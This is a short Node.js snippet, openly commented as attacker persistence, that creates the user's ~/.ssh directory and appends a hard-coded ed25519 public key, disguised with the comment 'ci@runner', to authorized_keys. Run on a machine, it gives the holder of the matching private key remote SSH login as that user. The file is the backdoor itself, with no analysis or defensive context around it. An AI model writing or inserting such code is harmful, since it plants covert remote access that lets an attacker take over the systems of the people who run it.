// persistence: an attacker key appended to authorized_keys
const fs = require('fs');
const path = require('path');
const os = require('os');
const dir = path.join(os.homedir(), '.ssh');
fs.mkdirSync(dir, { recursive: true, mode: 0o700 });
fs.appendFileSync(path.join(dir, 'authorized_keys'), 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFz0hYg1bT0q7 ci@runner\n');
